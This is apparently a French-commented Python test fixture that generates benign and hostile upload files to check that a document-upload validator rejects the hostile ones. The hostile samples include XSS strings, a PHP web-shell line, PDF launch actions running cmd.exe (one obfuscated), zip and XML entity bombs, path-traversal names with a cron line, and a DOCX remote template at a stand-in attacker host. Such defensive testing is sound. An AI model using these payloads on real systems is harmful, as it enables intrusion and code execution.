"""Des fichiers honnêtes et des fichiers hostiles, fabriqués à la demande : rien de dangereux ne dort dans le dépôt."""

import io
import struct
import zipfile
import zlib

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen.canvas import Canvas

from tests.fabriques_dossiers import PDF, archive, docx, image

EXE = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + b"This program cannot be run in DOS mode." + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)
MIME_ODT = "application/vnd.oasis.opendocument.text"
MIME_ODS = "application/vnd.oasis.opendocument.spreadsheet"
CONTENUS = "[Content_Types].xml"
LOURD = 30 * 1024 * 1024


def pdf(texte="Statuts de l’association", pages=1):
    tampon = io.BytesIO()
    toile = Canvas(tampon, pagesize=(595, 842), invariant=True)
    for rang in range(pages):
        toile.drawString(72, 770, f"{texte}, page {rang + 1}")
        toile.showPage()
    toile.save()
    return tampon.getvalue()


def _ecrire(ecrivain, **options):
    tampon = io.BytesIO()
    ecrivain.write(tampon, **options)
    return tampon.getvalue()


def _copie():
    ecrivain = pypdf.PdfWriter()
    ecrivain.append(io.BytesIO(pdf()))
    return ecrivain


def _pdf_a_l_ouverture(**action):
    """Un PDF qui fait quelque chose quand on l'ouvre."""
    ecrivain = _copie()
    entrees = {NameObject(f"/{cle}"): valeur for cle, valeur in action.items()}
    ecrivain.root_object[NameObject("/OpenAction")] = DictionaryObject(entrees)
    return _ecrire(ecrivain)


def pdf_avec_javascript():
    """Comme les formulaires Cerfa."""
    return _pdf_a_l_ouverture(S=NameObject("/JavaScript"), JS=TextStringObject("this.calculateNow();"))


def pdf_avec_fichier(nom, contenu):
    ecrivain = _copie()
    ecrivain.add_attachment(nom, contenu)
    return _ecrire(ecrivain)


def pdf_protege(mot_de_passe, proprietaire="gardien"):
    ecrivain = _copie()
    ecrivain.encrypt(mot_de_passe, proprietaire, algorithm="RC4-128")
    return _ecrire(ecrivain)


def pdf_qui_lance():
    return _pdf_a_l_ouverture(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))


def pdf_a_objets_compresses(objet):
    """Un PDF 1.5 entier, dont un objet dort dans un flux compressé."""
    corps = b"10 0 " + objet
    compresse = zlib.compress(corps)
    flux = b"9 0 obj\n<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(compresse),
        compresse,
    )
    return pdf().replace(b"xref\n", flux + b"xref\n", 1)


def photo(**options):
    """Une photo de téléphone, avec sa position."""
    exif = Image.Exif()
    exif[0x010F] = "Telephone"
    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 28.0, 0.0), 3: "E", 4: (2.0, 33.0, 0.0)})
    return image("JPEG", (640, 480), exif=exif, **options)


def _troncon(genre, contenu):
    return struct.pack("!I", len(contenu)) + genre + contenu + struct.pack("!I", zlib.crc32(genre + contenu))


def png_demesure(cote=60_000):
    entete = struct.pack("!IIBBBBB", cote, cote, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _troncon(b"IHDR", entete)
        + _troncon(b"IDAT", zlib.compress(b""))
        + _troncon(b"IEND", b"")
    )


def jpeg_demesure():
    octets = bytearray(image("JPEG"))
    rang = octets.index(b"\xff\xc0")
    octets[rang + 5 : rang + 9] = struct.pack("!HH", 65_000, 65_000)
    return bytes(octets)


def png_corrompu():
    octets = bytearray(image("PNG", (40, 40)))
    rang = octets.index(b"IDAT")
    octets[rang + 8] ^= 0xFF
    return bytes(octets)


def docx_de(entrees):
    return archive({CONTENUS: "<Types/>", "word/document.xml": "<document/>"} | entrees)


def xlsx(entrees=()):
    return archive({CONTENUS: "<Types/>", "xl/workbook.xml": "<workbook/>"} | dict(entrees))


def opendocument(mime, entrees=()):
    return archive({"mimetype": mime, "content.xml": "<office/>"} | dict(entrees))


def _rang_central(octets, nom):
    return octets.rfind(b"PK\x01\x02", 0, octets.rfind(nom))


def bombe_annoncee():
    """L'archive annonce 4 Go pour son document."""
    octets = bytearray(docx_de({"word/media/x.bin": bytes(1024)}))
    rang = _rang_central(octets, b"word/media/x.bin")
    octets[rang + 24 : rang + 28] = (2**32 - 2).to_bytes(4, "little")
    return bytes(octets)


def bombe():
    return docx_de({"word/media/x.bin": bytes(LOURD)})


def bombe_menteuse():
    """Elle annonce cent octets et en déplie trente millions."""
    octets = bytearray(bombe())
    rang = _rang_central(octets, b"word/media/x.bin")
    octets[rang + 24 : rang + 28] = (100).to_bytes(4, "little")
    return bytes(octets)


def bombe_imbriquee():
    return docx_de({"word/embeddings/tableau.xlsx": xlsx({"xl/media/x.bin": bytes(LOURD)})})


def entrees_en_double():
    tampon = io.BytesIO(docx())
    with zipfile.ZipFile(tampon, "a") as ouverte:
        ouverte.NameToInfo.clear()
        ouverte.writestr("word/document.xml", "<autre/>")
    return tampon.getvalue()


def docx_chiffre():
    octets = bytearray(docx())
    for signature, decalage in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        octets[octets.find(signature) + decalage] |= 1
    return bytes(octets)


def modele_distant():
    lien = (
        '<Relationships><Relationship Id="r1" Type="http://schemas/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attaquant.test/modele.dotm" TargetMode="External"/></Relationships>'
    )
    return docx_de({"word/_rels/settings.xml.rels": lien})


# identifiant du test : (nom envoyé, contenu, code du refus)
HOSTILES = {
    "zero-octet": ("vide.pdf", lambda: b"", "vide"),
    "executable": ("programme.exe", lambda: EXE, "format"),
    "exe-en-pdf": ("statuts.pdf", lambda: EXE, "contenu"),
    "exe-en-docx": ("statuts.docx", lambda: EXE, "contenu"),
    "elf-en-png": ("photo.png", lambda: ELF, "contenu"),
    "mime-menteur": ("photo.jpg", lambda: HTML, "contenu"),
    "sans-extension": ("statuts", pdf, "format"),
    "double-extension-exe": ("statuts.pdf.exe", lambda: EXE, "format"),
    "double-extension-html": ("statuts.pdf.html", lambda: HTML, "format"),
    "extension-seule": (".pdf", lambda: HTML, "contenu"),
    "svg": ("plan.svg", lambda: SVG, "format"),
    "svg-en-png": ("plan.png", lambda: SVG, "contenu"),
    "html-en-pdf": ("page.pdf", lambda: HTML, "contenu"),
    "javascript": ("code.js", lambda: b"alert(1)", "format"),
    "archive-zip": ("tout.zip", docx, "format"),
    "chemin-unix": ("../../etc/cron.d/tache.pdf", lambda: b"* * * * * root id\n", "contenu"),
    "chemin-windows": ("C:\\Windows\\System32\\calc.pdf", lambda: EXE, "contenu"),
    "nul-dans-le-nom": ("statuts.exe\x00.pdf", lambda: EXE, "contenu"),
    "nom-renverse": ("facture\u202efdp.exe", lambda: EXE, "format"),
    "nom-interminable-exe": ("a" * 400 + ".exe", lambda: EXE, "format"),
    "nom-interminable-html": ("é" * 400 + ".pdf", lambda: HTML, "contenu"),
    "nom-invisible": ("\u200b\u202e", pdf, "required"),
    "pdf-tronque": ("statuts.pdf", lambda: pdf()[:300], "contenu"),
    "pdf-entete-seul": ("statuts.pdf", lambda: b"%PDF-1.7\n", "contenu"),
    "pdf-abime": ("statuts.pdf", lambda: b"%PDF-1.7\n/ObjStm\n%%EOF", "contenu"),
    "pdf-et-zip": ("statuts.pdf", lambda: pdf() + docx(), "polyglotte"),
    "pdf-et-html": ("statuts.pdf", lambda: pdf() + HTML, "polyglotte"),
    "pdf-et-php": ("statuts.pdf", lambda: pdf() + b"<?php system($_GET[0]);", "polyglotte"),
    "pdf-a-mot-de-passe": ("statuts.pdf", lambda: pdf_protege("secret"), "protege"),
    "pdf-lance-un-programme": ("statuts.pdf", pdf_qui_lance, "actif"),
    "pdf-lance-en-douce": (
        "statuts.pdf",
        lambda: pdf_a_objets_compresses(b"<</S /Launch /F (cmd.exe)>>"),
        "actif",
    ),
    "pdf-lance-deguise": ("statuts.pdf", lambda: pdf_qui_lance().replace(b"/Launch", b"/#4caunch"), "actif"),
    "pdf-porte-un-exe": ("statuts.pdf", lambda: pdf_avec_fichier("facture.exe", EXE), "actif"),
    "pdf-porte-une-page": ("statuts.pdf", lambda: pdf_avec_fichier("lisez-moi.html", HTML), "actif"),
    "gif-en-png": ("photo.png", lambda: image("GIF"), "contenu"),
    "jpeg-en-png": ("photo.png", lambda: image("JPEG"), "contenu"),
    "tiff": ("photo.tif", lambda: image("TIFF"), "format"),
    "jpeg-tronque": ("photo.jpg", lambda: photo()[:-200], "contenu"),
    "png-tronque": ("photo.png", lambda: image("PNG", (200, 200))[:-30], "contenu"),
    "png-corrompu": ("photo.png", png_corrompu, "contenu"),
    "png-1x1-et-traine": ("photo.png", lambda: image("PNG", (1, 1)) + b"#!/bin/sh\nid\n", "polyglotte"),
    "png-demesure": ("photo.png", png_demesure, "dimensions"),
    "png-grand": ("photo.png", lambda: png_demesure(9_000), "dimensions"),
    "jpeg-demesure": ("photo.jpg", jpeg_demesure, "dimensions"),
    "jpeg-et-zip": ("photo.jpg", lambda: photo() + docx(), "polyglotte"),
    "docx-a-macros": ("lettre.docx", lambda: docx_de({"word/vbaProject.bin": b"x"}), "macros"),
    "docm-renomme": ("lettre.docx", lambda: archive({CONTENUS: "vnd.ms-word.document.macroEnabled.main+xml",
                                                    "word/document.xml": "<d/>"}), "macros"),
    "xlsx-a-macros": ("budget.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "odt-a-macros": ("lettre.odt", lambda: opendocument(MIME_ODT, {"Basic/Standard/M.xml": "<x/>"}), "macros"),
    "docx-macros-imbriquees": ("lettre.docx", lambda: docx_de(
        {"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}), "macros"),
    "bombe-annoncee": ("lettre.docx", bombe_annoncee, "archive"),
    "bombe": ("lettre.docx", bombe, "archive"),
    "bombe-menteuse": ("lettre.docx", bombe_menteuse, "contenu"),
    "bombe-imbriquee": ("lettre.docx", bombe_imbriquee, "archive"),
    "bombe-d-entites": ("lettre.docx", lambda: docx_de(
        {"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}), "archive"),
    "trop-d-entrees": ("lettre.docx", lambda: archive({f"f{n}": "" for n in range(5_001)}), "archive"),
    "docx-porte-un-zip": ("lettre.docx", lambda: docx_de({"word/embeddings/x.zip": docx()}), "actif"),
    "docx-porte-un-exe": ("lettre.docx", lambda: docx_de({"word/embeddings/x.bin": EXE}), "actif"),
    "docx-modele-distant": ("lettre.docx", modele_distant, "actif"),
    "docx-sort-de-l-archive": ("lettre.docx", lambda: docx_de({"../../evil.xml": "<x/>"}), "polyglotte"),
    "docx-entrees-en-double": ("lettre.docx", entrees_en_double, "polyglotte"),
    "docx-chiffre": ("lettre.docx", docx_chiffre, "protege"),
    "docx-ancien-ou-protege": ("lettre.docx", lambda: OLE, "protege"),
    "docx-abime": ("lettre.docx", lambda: docx()[:60], "contenu"),
    "zip-quelconque": ("lettre.docx", lambda: archive({"lisez-moi.txt": "bonjour"}), "contenu"),
    "exe-puis-zip": ("lettre.docx", lambda: EXE + docx(), "contenu"),
    "pdf-puis-zip": ("lettre.docx", lambda: PDF + docx(), "contenu"),
    "html-puis-zip": ("lettre.docx", lambda: HTML + docx(), "contenu"),
    "rar-en-odt": ("lettre.odt", lambda: b"Rar!\x1a\x07\x00" + bytes(100), "contenu"),
    "tableur-en-texte": ("lettre.docx", xlsx, "contenu"),
    "texte-en-tableur": ("budget.ods", lambda: opendocument(MIME_ODT), "contenu"),
}  # fmt: skip

# identifiant : (nom envoyé, contenu, nom gardé)
HONNETES = {
    "pdf": ("Statuts 2026.pdf", pdf, "Statuts 2026.pdf"),
    "pdf-majuscules": ("STATUTS.PDF", pdf, "STATUTS.PDF"),
    "pdf-formulaire-cerfa": ("cerfa.pdf", pdf_avec_javascript, "cerfa.pdf"),
    "pdf-facture-et-son-xml": ("facture.pdf", lambda: pdf_avec_fichier("factur-x.xml", b"<x/>"), "facture.pdf"),
    "pdf-non-modifiable": ("rib.pdf", lambda: pdf_protege(""), "rib.pdf"),
    "pdf-compresse": ("bilan.pdf", lambda: pdf_a_objets_compresses(b"<</A 1>>"), "bilan.pdf"),
    "photo-de-telephone": ("IMG_2041.jpg", photo, "IMG_2041.jpg"),
    "photo-animee": ("IMG_2042.jpeg", lambda: photo() + b"\0\0\0\x18ftypmp42" + bytes(900), "IMG_2042.jpeg"),
    "photo-progressive": ("photo.jpg", lambda: photo(progressive=True), "photo.jpg"),
    "png": ("capture.png", lambda: image("PNG", (300, 200)), "capture.png"),
    "docx": ("lettre.docx", docx, "lettre.docx"),
    "docx-avec-tableau": ("lettre.docx", lambda: docx_de({"word/embeddings/t.xlsx": xlsx()}), "lettre.docx"),
    "xlsx": ("budget.xlsx", xlsx, "budget.xlsx"),
    "xlsx-lie": ("budget.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}), "budget.xlsx"),
    "odt": ("lettre.odt", lambda: opendocument(MIME_ODT), "lettre.odt"),
    "ods": ("budget.ods", lambda: opendocument(MIME_ODS), "budget.ods"),
    "chemin-complet": ("C:\\Users\\alice\\Procès-verbal de l’AG.pdf", pdf, "Procès-verbal de l’AG.pdf"),
    "chemin-remontant": ("../../../tmp/statuts.pdf", pdf, "statuts.pdf"),
    "nom-interminable": ("a" * 400 + ".pdf", pdf, None),
}  # fmt: skip
